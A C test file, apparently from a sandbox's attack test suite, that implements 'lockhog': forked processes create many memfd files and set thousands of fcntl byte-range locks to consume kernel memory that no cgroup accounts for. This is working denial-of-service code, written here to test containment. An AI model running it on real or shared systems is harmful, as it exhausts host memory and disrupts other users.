/**
 * @file
 * @brief lockhog: hundreds of thousands of locks, and nobody pays for them.
 *
 * The kernel remembers each range of bytes that fcntl(F_SETLK) locks, in some
 * 200 bytes of its own memory, which are charged to no cgroup. RLIMIT_LOCKS
 * once limited how many there are; since Linux 2.4.25 it does nothing. Ranges
 * that do not touch each other stay apart, so a file holds as many as it has
 * bytes, and what limits them is patience alone: a new one is compared with all
 * that the file has already. Hence many files, with a few each.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "tests/attacks/breakouts/breakout.h"

enum {
    PROCESSES = 8,
    FILES = 950,
    LOCKS = 50
};

/* From the last to the first, so that each comes first in the kernel's list. */
static int lock(int fd)
{
    for (int i = LOCKS; i > 0; i--) {
        struct flock range = { .l_type = F_WRLCK,
                               .l_whence = SEEK_SET,
                               .l_start = 2L * i,
                               .l_len = 1 };

        if (fcntl(fd, F_SETLK, &range) < 0)
            return -1;
    }
    return 0;
}

BREAKOUT(lockhog)
{
    for (int i = 0; i < PROCESSES - 1; i++)
        if (fork() == 0)
            break;
    for (int i = 0; i < FILES; i++) {
        int fd = memfd_create("locks", MFD_CLOEXEC);

        if (fd < 0 || lock(fd) < 0)
            return stopped("fcntl F_SETLK");
    }
    return linger();
}
